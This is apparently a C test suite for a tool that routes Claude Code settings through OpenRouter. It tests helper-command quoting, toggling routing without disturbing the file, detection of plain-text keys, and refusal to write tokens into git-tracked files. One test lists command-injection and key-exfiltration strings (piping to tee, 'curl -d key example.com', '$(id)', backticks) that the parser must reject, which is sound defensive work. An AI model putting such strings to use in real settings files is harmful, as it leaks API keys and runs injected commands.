/* test-routing.c
 *
 * Tests for routing through OpenRouter on real settings files: the helper command, turning
 * routing on and off byte for byte, finding plain-text keys, and keeping tokens out of
 * files tracked by git.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <glib/gstdio.h>

#include "sb-git.h"
#include "sb-key-store.h"
#include "sb-routing.h"
#include "sb-test-util.h"

typedef struct
{
  SbTestEnv  env;
  char      *helper;   /* an executable signalbox-key in a folder with awkward characters */
  char      *quoted;   /* how apiKeyHelper names it */
  char      *escaped;  /* and how that looks in JSON */
  char      *user;
  char      *project;
  char      *local;
} Fixture;

#define ADD_TEST(path, func) \
  g_test_add (path, Fixture, NULL, setup, func, teardown)

static void
setup (Fixture       *fixture,
       gconstpointer  data)
{
  g_autofree char *dir = NULL;

  sb_test_env_setup (&fixture->env, data);

  dir = g_build_filename (fixture->env.root, "my bin's", NULL);
  fixture->helper = g_build_filename (dir, "signalbox-key", NULL);
  sb_test_write (fixture->helper, "#!/bin/sh\nexit 1\n");
  g_assert_cmpint (g_chmod (fixture->helper, 0755), ==, 0);
  fixture->quoted = g_shell_quote (fixture->helper);
  fixture->escaped = g_strescape (fixture->quoted, NULL);
  g_setenv (SB_ROUTING_HELPER_ENV, fixture->helper, TRUE);

  fixture->user = g_build_filename (fixture->env.home, ".claude", "settings.json", NULL);
  fixture->project = g_build_filename (fixture->env.folder, ".claude", "settings.json", NULL);
  fixture->local = g_build_filename (fixture->env.folder, ".claude", "settings.local.json",
                                     NULL);
}

static void
teardown (Fixture       *fixture,
          gconstpointer  data)
{
  g_unsetenv (SB_ROUTING_HELPER_ENV);
  g_clear_pointer (&fixture->helper, g_free);
  g_clear_pointer (&fixture->quoted, g_free);
  g_clear_pointer (&fixture->escaped, g_free);
  g_clear_pointer (&fixture->user, g_free);
  g_clear_pointer (&fixture->project, g_free);
  g_clear_pointer (&fixture->local, g_free);
  sb_test_env_teardown (&fixture->env, data);
}

static void
assert_file (const char *path,
             const char *expected)
{
  g_autofree char *text = sb_test_read (path);

  g_assert_cmpstr (text, ==, expected);
}

static guint
file_mode (const char *path)
{
  GStatBuf st;

  g_assert_cmpint (g_stat (path, &st), ==, 0);
  return st.st_mode & 07777;
}

static void
git (const char *folder,
     const char *command)
{
  g_autofree char *line = g_strdup_printf ("git -C '%s' -c user.name=t -c user.email=t@t "
                                           "-c init.defaultBranch=main %s", folder, command);
  g_autoptr(GError) error = NULL;
  int status = 0;

  g_assert_true (g_spawn_command_line_sync (line, NULL, NULL, &status, &error));
  g_assert_no_error (error);
  g_assert_true (g_spawn_check_wait_status (status, NULL));
}

static void
test_routing_helper_command (Fixture       *fixture,
                             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *command = NULL;
  g_autofree char *expected = NULL;
  g_autofree char *profile = NULL;
  g_autofree char *missing = g_build_filename (fixture->env.root, "nowhere", "signalbox-key",
                                               NULL);
  g_autofree char *installed = g_build_filename (BINDIR, "signalbox-key", NULL);
  g_autofree char *path = NULL;

  /* The path is quoted for /bin/sh, which is how Claude Code runs it. */
  command = sb_routing_get_helper_command (NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (command, ==, fixture->quoted);
  g_assert_nonnull (strstr (command, "'\\''"));
  g_clear_pointer (&command, g_free);

  command = sb_routing_get_helper_command ("default", &error);
  g_assert_no_error (error);
  g_assert_cmpstr (command, ==, fixture->quoted);
  g_clear_pointer (&command, g_free);

  command = sb_routing_get_helper_command ("client b", &error);
  g_assert_no_error (error);
  expected = g_strconcat (fixture->quoted, " --profile 'client b'", NULL);
  g_assert_cmpstr (command, ==, expected);

  /* What is written reads back as the same profile. */
  g_assert_true (sb_routing_parse_helper_command (command, &profile));
  g_assert_cmpstr (profile, ==, "client b");
  g_clear_pointer (&profile, g_free);
  g_assert_true (sb_routing_parse_helper_command (fixture->quoted, &profile));
  g_assert_cmpstr (profile, ==, "default");
  g_clear_pointer (&profile, g_free);
  g_clear_pointer (&command, g_free);
  command = g_strconcat (fixture->quoted, " --profile=work", NULL);
  g_assert_true (sb_routing_parse_helper_command (command, &profile));
  g_assert_cmpstr (profile, ==, "work");
  g_clear_pointer (&profile, g_free);
  g_clear_pointer (&command, g_free);
  command = g_strconcat (fixture->quoted, " -p work", NULL);
  g_assert_true (sb_routing_parse_helper_command (command, &profile));
  g_assert_cmpstr (profile, ==, "work");
  g_clear_pointer (&profile, g_free);

  /* Recognised by its resolved path, not by its name: another program called
   * signalbox-key (the installed one when it is not the one in use, or a folder's own
   * script) is not ours, whatever it prints. A link to ours is ours. */
  {
    g_autofree char *own = g_build_filename (fixture->env.folder, "signalbox-key", NULL);
    g_autofree char *link = g_build_filename (fixture->env.root, "link-to-helper", NULL);
    g_autofree char *quoted_link = g_shell_quote (link);

    sb_test_write (own, "#!/bin/sh\necho sk-or-v1-not-the-key\n");
    g_assert_cmpint (g_chmod (own, 0755), ==, 0);
    g_assert_false (sb_routing_parse_helper_command (own, NULL));
    g_assert_false (sb_routing_parse_helper_command ("./signalbox-key", NULL));
    g_assert_false (sb_routing_parse_helper_command ("signalbox-key", NULL));
    g_assert_false (sb_routing_parse_helper_command (installed, NULL));
    g_assert_cmpint (symlink (fixture->helper, link), ==, 0);
    g_assert_true (sb_routing_parse_helper_command (quoted_link, NULL));
  }

  /* A command that pipes, wraps or redirects the helper sends its key elsewhere. */
  {
    static const char * const wrapped[] = {
      "@ | tee /tmp/key", "@|tee /tmp/key", "@; curl -d key example.com", "@ > /tmp/k",
      "@ && true", "@ --profile x;y", "@ --profile \"$(id)\"", "@ --profile `id`",
      "@ --profile *", "@ --profile \"a\\$b\"", "@ --clear", "sh -c @",
      "@\n/bin/true", "@ 2>/dev/null",
    };

    for (guint i = 0; i < G_N_ELEMENTS (wrapped); i++)
      {
        g_auto(GStrv) parts = g_strsplit (wrapped[i], "@", -1);
        g_autofree char *attack = g_strjoinv (fixture->quoted, parts);

        g_test_message ("%s", attack);
        g_assert_false (sb_routing_parse_helper_command (attack, NULL));
      }
  }
  g_assert_false (sb_routing_parse_helper_command ("/usr/bin/get-key", &profile));
  g_assert_null (profile);
  g_assert_false (sb_routing_parse_helper_command ("signalbox-key --clear", NULL));
  g_assert_false (sb_routing_parse_helper_command ("'unterminated", NULL));
  g_assert_false (sb_routing_parse_helper_command ("", NULL));

  /* A profile that cannot follow --profile is refused. */
  g_clear_pointer (&command, g_free);
  command = sb_routing_get_helper_command ("--clear", &error);
  g_assert_error (error, SB_KEY_STORE_ERROR, SB_KEY_STORE_ERROR_INVALID_PROFILE);
  g_assert_null (command);
  g_clear_error (&error);

  /* Not installed (as when running from the build tree): said, not written. */
  g_setenv (SB_ROUTING_HELPER_ENV, missing, TRUE);
  command = sb_routing_get_helper_command (NULL, &error);
  g_assert_error (error, SB_ROUTING_ERROR, SB_ROUTING_ERROR_NOT_INSTALLED);
  g_assert_nonnull (strstr (error->message, missing));
  g_assert_null (command);
  g_clear_error (&error);

  g_setenv (SB_ROUTING_HELPER_ENV, "signalbox-key", TRUE);
  g_assert_null (sb_routing_get_helper_path (&error));
  g_assert_error (error, SB_ROUTING_ERROR, SB_ROUTING_ERROR_NOT_INSTALLED);
  g_clear_error (&error);

  /* Without the variable, the installed one in BINDIR. */
  g_unsetenv (SB_ROUTING_HELPER_ENV);
  path = sb_routing_get_helper_path (&error);
  if (g_file_test (installed, G_FILE_TEST_IS_EXECUTABLE))
    {
      g_assert_no_error (error);
      g_assert_cmpstr (path, ==, installed);
    }
  else
    {
      g_assert_error (error, SB_ROUTING_ERROR, SB_ROUTING_ERROR_NOT_INSTALLED);
      g_assert_nonnull (strstr (error->message, installed));
    }
}

/* In a Flatpak sandbox the host reaches the helper through flatpak run. */
static void
test_routing_flatpak (Fixture       *fixture,
                      gconstpointer  data)
{
  g_autofree char *info = g_build_filename (fixture->env.root, "flatpak-info", NULL);
  g_autoptr(GError) error = NULL;
  g_autofree char *command = NULL;
  g_autofree char *profile = NULL;

  g_setenv ("SIGNALBOX_FLATPAK_INFO", info, TRUE);
  g_assert_false (sb_routing_in_flatpak ());
  sb_test_write (info, "[Application]\nname=" APP_ID "\n");
  g_assert_true (sb_routing_in_flatpak ());

  /* Without the test override of the helper's path, as installed. */
  g_unsetenv (SB_ROUTING_HELPER_ENV);
  command = sb_routing_get_helper_command ("client b", &error);
  g_assert_no_error (error);
  g_assert_cmpstr (command, ==, "flatpak run --command=signalbox-key " APP_ID
                                " --profile 'client b'");
  g_assert_true (sb_routing_parse_helper_command (command, &profile));
  g_assert_cmpstr (profile, ==, "client b");
  g_clear_pointer (&profile, g_free);
  g_assert_true (sb_routing_parse_helper_command ("flatpak run --command=signalbox-key "
                                                  APP_ID, &profile));
  g_assert_cmpstr (profile, ==, "default");
  g_clear_pointer (&profile, g_free);

  /* Another application's command is not ours. */
  g_assert_false (sb_routing_parse_helper_command ("flatpak run --command=signalbox-key "
                                                   "org.example.Other", NULL));
  g_assert_false (sb_routing_parse_helper_command ("flatpak run " APP_ID, NULL));
  g_assert_false (sb_routing_parse_helper_command ("flatpak run --command=signalbox-key "
                                                   APP_ID " | tee /tmp/key", NULL));

  g_unsetenv ("SIGNALBOX_FLATPAK_INFO");
}

static const char user_text[] =
  "{\n"
  "  \"$schema\": \"https://json.schemastore.org/claude-code-settings.json\",\n"
  "  \"env\": {\n"
  "    \"ANTHROPIC_MODEL\": \"qwen/qwen3-coder\",\n"
  "    \"DISABLE_TELEMETRY\": \"1\"\n"
  "  },\n"
  "  \"permissions\": {\n"
  "    \"allow\": [\"Bash(npm run test:*)\", \"Read(~/.zshrc)\"]\n"
  "  },\n"
  "  \"includeCoAuthoredBy\": false\n"
  "}\n";

static void
test_routing_on_off (Fixture       *fixture,
                     gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(SbLayer) layer = NULL;
  g_autofree char *profile = NULL;
  g_autofree char *expected = NULL;

  sb_test_write (fixture->user, user_text);
  layer = sb_layer_new (SB_SCOPE_USER, fixture->user);
  g_assert_false (sb_routing_get_enabled (layer, &profile));
  g_assert_null (profile);

  g_assert_true (sb_routing_set_enabled (layer, TRUE, NULL, &error));
  g_assert_no_error (error);
  expected = g_strdup_printf (
    "{\n"
    "  \"$schema\": \"https://json.schemastore.org/claude-code-settings.json\",\n"
    "  \"env\": {\n"
    "    \"ANTHROPIC_MODEL\": \"qwen/qwen3-coder\",\n"
    "    \"DISABLE_TELEMETRY\": \"1\",\n"
    "    \"ANTHROPIC_BASE_URL\": \"https://openrouter.ai/api\",\n"
    "    \"ANTHROPIC_API_KEY\": \"\"\n"
    "  },\n"
    "  \"permissions\": {\n"
    "    \"allow\": [\"Bash(npm run test:*)\", \"Read(~/.zshrc)\"]\n"
    "  },\n"
    "  \"includeCoAuthoredBy\": false,\n"
    "  \"apiKeyHelper\": \"%s\"\n"
    "}\n", fixture->escaped);
  assert_file (fixture->user, expected);
  g_assert_true (sb_routing_get_enabled (layer, &profile));
  g_assert_cmpstr (profile, ==, "default");
  g_clear_pointer (&profile, g_free);

  /* Another profile changes the helper only. */
  g_assert_true (sb_routing_set_enabled (layer, TRUE, "client-a", &error));
  g_assert_no_error (error);
  g_free (expected);
  expected = g_strdup_printf (
    "{\n"
    "  \"$schema\": \"https://json.schemastore.org/claude-code-settings.json\",\n"
    "  \"env\": {\n"
    "    \"ANTHROPIC_MODEL\": \"qwen/qwen3-coder\",\n"
    "    \"DISABLE_TELEMETRY\": \"1\",\n"
    "    \"ANTHROPIC_BASE_URL\": \"https://openrouter.ai/api\",\n"
    "    \"ANTHROPIC_API_KEY\": \"\"\n"
    "  },\n"
    "  \"permissions\": {\n"
    "    \"allow\": [\"Bash(npm run test:*)\", \"Read(~/.zshrc)\"]\n"
    "  },\n"
    "  \"includeCoAuthoredBy\": false,\n"
    "  \"apiKeyHelper\": \"%s --profile 'client-a'\"\n"
    "}\n", fixture->escaped);
  assert_file (fixture->user, expected);
  g_assert_true (sb_routing_get_enabled (layer, &profile));
  g_assert_cmpstr (profile, ==, "client-a");
  g_clear_pointer (&profile, g_free);

  /* Off: the file is what it was. */
  g_assert_true (sb_routing_set_enabled (layer, FALSE, NULL, &error));
  g_assert_no_error (error);
  assert_file (fixture->user, user_text);
  g_assert_false (sb_routing_get_enabled (layer, NULL));

  /* Off again changes nothing. */
  g_assert_true (sb_routing_set_enabled (layer, FALSE, NULL, &error));
  g_assert_no_error (error);
  assert_file (fixture->user, user_text);
}

/* CRLF, tabs, no final newline, and the routing keys already half there. */
static void
test_routing_keeps_the_rest (Fixture       *fixture,
                             gconstpointer  data)
{
  static const char text[] =
    "{\r\n"
    "\t\"env\": {\r\n"
    "\t\t\"ANTHROPIC_BASE_URL\": \"https://openrouter.ai/api\",\r\n"
    "\t\t\"ANTHROPIC_API_KEY\": \"sk-ant-" "api03-typed-by-hand-0123456789\"\r\n"
    "\t},\r\n"
    "\t\"apiKeyHelper\": \"~/bin/get-key.sh\"\r\n"
    "}";
  g_autoptr(GError) error = NULL;
  g_autoptr(SbLayer) layer = NULL;
  g_autofree char *expected = NULL;

  sb_test_write (fixture->local, text);
  layer = sb_layer_new (SB_SCOPE_LOCAL, fixture->local);

  /* Someone else's helper is not ours. */
  g_assert_false (sb_routing_get_enabled (layer, NULL));

  /* Turning off removes only what routing would have written: here, the base URL. The key
   * typed by hand and the other helper stay. */
  g_assert_true (sb_routing_set_enabled (layer, FALSE, NULL, &error));
  g_assert_no_error (error);
  assert_file (fixture->local,
               "{\r\n"
               "\t\"env\": {\r\n"
               "\t\t\"ANTHROPIC_API_KEY\": \"sk-ant-" "api03-typed-by-hand-0123456789\"\r\n"
               "\t},\r\n"
               "\t\"apiKeyHelper\": \"~/bin/get-key.sh\"\r\n"
               "}");

  g_assert_true (sb_routing_set_enabled (layer, TRUE, "work", &error));
  g_assert_no_error (error);
  expected = g_strdup_printf ("{\r\n"
                              "\t\"env\": {\r\n"
                              "\t\t\"ANTHROPIC_API_KEY\": \"\",\r\n"
                              "\t\t\"ANTHROPIC_BASE_URL\": \"https://openrouter.ai/api\"\r\n"
                              "\t},\r\n"
                              "\t\"apiKeyHelper\": \"%s --profile 'work'\"\r\n"
                              "}", fixture->escaped);
  assert_file (fixture->local, expected);
}

static void
test_routing_missing_and_invalid (Fixture       *fixture,
                                  gconstpointer  data)
{
  static const char broken[] = "{\"env\": {\"ANTHROPIC_MODEL\": }\n";
  g_autoptr(GError) error = NULL;
  g_autoptr(SbLayer) user = NULL;
  g_autoptr(SbLayer) project = NULL;
  g_autoptr(SbLayer) managed = NULL;
  g_autofree char *managed_path = g_build_filename (fixture->env.managed,
                                                    "managed-settings.json", NULL);
  g_autofree char *missing = g_build_filename (fixture->env.root, "nowhere", NULL);

  /* A missing file is created with just the routing settings. */
  user = sb_layer_new (SB_SCOPE_USER, fixture->user);
  g_assert_true (sb_routing_set_enabled (user, TRUE, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (sb_routing_get_enabled (user, NULL));
  g_assert_cmpuint (file_mode (fixture->user), ==, 0644);

  /* A file that does not parse is never written. */
  sb_test_write (fixture->project, broken);
  project = sb_layer_new (SB_SCOPE_PROJECT, fixture->project);
  g_assert_false (sb_routing_set_enabled (project, TRUE, NULL, &error));
  g_assert_error (error, SB_LAYER_ERROR, SB_LAYER_ERROR_INVALID);
  g_clear_error (&error);
  assert_file (fixture->project, broken);
  g_assert_false (sb_layer_has_pending (project));

  /* Managed settings are not ours. */
  sb_test_write (managed_path, "{}\n");
  managed = sb_layer_new (SB_SCOPE_MANAGED, managed_path);
  g_assert_false (sb_routing_set_enabled (managed, TRUE, NULL, &error));
  g_assert_error (error, SB_ROUTING_ERROR, SB_ROUTING_ERROR_READ_ONLY);
  g_clear_error (&error);
  assert_file (managed_path, "{}\n");

  /* Without signalbox-key, nothing is written. */
  g_setenv (SB_ROUTING_HELPER_ENV, missing, TRUE);
  g_assert_true (sb_routing_set_enabled (user, FALSE, NULL, &error));
  g_assert_no_error (error);
  assert_file (fixture->user, "{\n  \"env\": {}\n}\n");
  g_assert_false (sb_routing_set_enabled (user, TRUE, NULL, &error));
  g_assert_error (error, SB_ROUTING_ERROR, SB_ROUTING_ERROR_NOT_INSTALLED);
  assert_file (fixture->user, "{\n  \"env\": {}\n}\n");
}

static void
test_routing_find_plain_keys (Fixture       *fixture,
                              gconstpointer  data)
{
  g_autoptr(SbLayerStack) stack = NULL;
  g_autoptr(GPtrArray) keys = NULL;
  g_autofree char *managed_path = g_build_filename (fixture->env.managed,
                                                    "managed-settings.json", NULL);
  SbPlainKey *key;

  sb_test_write (fixture->user,
                 "{\"env\": {\"ANTHROPIC_AUTH_TOKEN\": \"sk-or-v1-0123456789abcdef0123\","
                 " \"ANTHROPIC_API_KEY\": \"\"}}\n");
  sb_test_write (fixture->project,
                 "{\"env\": {\"OPENROUTER_API_KEY\": \"short\","
                 " \"OTHER_TOKEN\": \"sk-or-v1-0123456789abcdef0123\"}}\n");
  sb_test_write (fixture->local,
                 "{\"env\": {\"ANTHROPIC_API_KEY\": \"sk-ant-api03-abcdefghijklmnop\","
                 " \"OPENROUTER_API_KEY\": \"Bearer sk-or-v1-0123456789abcdef0123\"}}\n");
  sb_test_write (managed_path, "{\"env\": {\"ANTHROPIC_AUTH_TOKEN\": "
                               "\"sk-or-v1-managed0123456789abcdef\"}}\n");

  stack = sb_layer_stack_new (fixture->env.folder);
  keys = sb_routing_find_plain_keys (stack);
  g_assert_cmpuint (keys->len, ==, 3);

  key = g_ptr_array_index (keys, 0);
  g_assert_cmpint (sb_layer_get_scope (key->layer), ==, SB_SCOPE_USER);
  g_assert_cmpstr (key->pointer, ==, "/env/ANTHROPIC_AUTH_TOKEN");
  g_assert_cmpstr (key->name, ==, "ANTHROPIC_AUTH_TOKEN");

  key = g_ptr_array_index (keys, 1);
  g_assert_cmpint (sb_layer_get_scope (key->layer), ==, SB_SCOPE_LOCAL);
  g_assert_cmpstr (key->pointer, ==, "/env/OPENROUTER_API_KEY");

  key = g_ptr_array_index (keys, 2);
  g_assert_cmpint (sb_layer_get_scope (key->layer), ==, SB_SCOPE_LOCAL);
  g_assert_cmpstr (key->pointer, ==, "/env/ANTHROPIC_API_KEY");
}

static void
test_routing_token_refused_in_git (Fixture       *fixture,
                                   gconstpointer  data)
{
  static const char project_text[] = "{\n  \"env\": {\n    \"ANTHROPIC_MODEL\": \"x/y\"\n  }\n}\n";
  g_autoptr(GError) error = NULL;
  g_autoptr(SbLayerStack) stack = NULL;
  g_autofree char *git_program = g_find_program_in_path ("git");
  SbLayer *project;
  SbLayer *local;

  if (git_program == NULL)
    {
      g_test_skip ("git is not installed");
      return;
    }

  sb_test_write (fixture->project, project_text);
  sb_test_write (fixture->local, "{}\n");
  git (fixture->env.folder, "init -q");
  git (fixture->env.folder, "add .claude/settings.json");
  git (fixture->env.folder, "commit -q -m init");

  stack = sb_layer_stack_new (fixture->env.folder);
  project = sb_layer_stack_get_layer (stack, SB_SCOPE_PROJECT);
  local = sb_layer_stack_get_layer (stack, SB_SCOPE_LOCAL);

  /* The shared file is tracked: the token would be committed. Local is offered. */
  g_assert_false (sb_routing_store_token (project, "sk-or-v1-0123456789abcdef0123", &error));
  g_assert_error (error, SB_ROUTING_ERROR, SB_ROUTING_ERROR_TRACKED);
  g_assert_nonnull (strstr (error->message, "tracked by git"));
  g_assert_nonnull (strstr (error->message, "settings.local.json"));
  g_assert_null (strstr (error->message, "sk-or"));
  g_clear_error (&error);
  assert_file (fixture->project, project_text);

  /* The local file, untracked but not ignored, would go with the next `git add .`: not
   * until git ignores it. */
  g_assert_false (sb_routing_store_token (local, "sk-or-v1-0123456789abcdef0123", &error));
  g_assert_error (error, SB_ROUTING_ERROR, SB_ROUTING_ERROR_NOT_IGNORED);
  g_assert_nonnull (strstr (error->message, "info/exclude"));
  g_clear_error (&error);
  assert_file (fixture->local, "{}\n");
  g_assert_true (sb_git_add_exclude (fixture->local, &error));
  g_assert_no_error (error);
  g_assert_true (sb_routing_check_token_file (local, &error));
  g_assert_no_error (error);

  /* Once someone commits it, not any more. */
  git (fixture->env.folder, "add -f .claude/settings.local.json");
  g_assert_false (sb_routing_store_token (local, "sk-or-v1-0123456789abcdef0123", &error));
  g_assert_error (error, SB_ROUTING_ERROR, SB_ROUTING_ERROR_TRACKED);
  g_assert_nonnull (strstr (error->message, "keyring"));
  g_clear_error (&error);
  assert_file (fixture->local, "{}\n");
}

static void
test_routing_token_local (Fixture       *fixture,
                          gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(SbLayer) local = NULL;
  g_autoptr(SbLayer) missing = NULL;
  g_autofree char *other = g_build_filename (fixture->env.home, "other", ".claude",
                                             "settings.local.json", NULL);

  sb_test_write (fixture->local,
                 "{\n  \"permissions\": {\n    \"allow\": [\"Bash(ls)\"]\n  }\n}\n");
  g_assert_cmpint (g_chmod (fixture->local, 0644), ==, 0);
  local = sb_layer_new (SB_SCOPE_LOCAL, fixture->local);

  g_assert_true (sb_routing_store_token (local, "sk-or-v1-0123456789abcdef0123", &error));
  g_assert_no_error (error);
  assert_file (fixture->local,
               "{\n"
               "  \"permissions\": {\n"
               "    \"allow\": [\"Bash(ls)\"]\n"
               "  },\n"
               "  \"env\": {\n"
               "    \"ANTHROPIC_BASE_URL\": \"https://openrouter.ai/api\",\n"
               "    \"ANTHROPIC_API_KEY\": \"\",\n"
               "    \"ANTHROPIC_AUTH_TOKEN\": \"sk-or-v1-0123456789abcdef0123\"\n"
               "  }\n"
               "}\n");
  g_assert_cmpuint (file_mode (fixture->local), ==, 0600);

  /* A file created for the token is private from the start. */
  missing = sb_layer_new (SB_SCOPE_LOCAL, other);
  g_assert_true (sb_routing_store_token (missing, "sk-or-v1-0123456789abcdef0123", &error));
  g_assert_no_error (error);
  g_assert_cmpuint (file_mode (other), ==, 0600);

  /* Not a key at all: nothing written. */
  g_assert_false (sb_routing_store_token (local, "sk-or v1", &error));
  g_assert_error (error, SB_KEY_STORE_ERROR, SB_KEY_STORE_ERROR_INVALID_KEY);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  ADD_TEST ("/signalbox/routing/helper-command", test_routing_helper_command);
  ADD_TEST ("/signalbox/routing/flatpak", test_routing_flatpak);
  ADD_TEST ("/signalbox/routing/on-off", test_routing_on_off);
  ADD_TEST ("/signalbox/routing/keeps-the-rest", test_routing_keeps_the_rest);
  ADD_TEST ("/signalbox/routing/missing-and-invalid", test_routing_missing_and_invalid);
  ADD_TEST ("/signalbox/routing/find-plain-keys", test_routing_find_plain_keys);
  ADD_TEST ("/signalbox/routing/token-refused-in-git", test_routing_token_refused_in_git);
  ADD_TEST ("/signalbox/routing/token-local", test_routing_token_local);

  return g_test_run ();
}
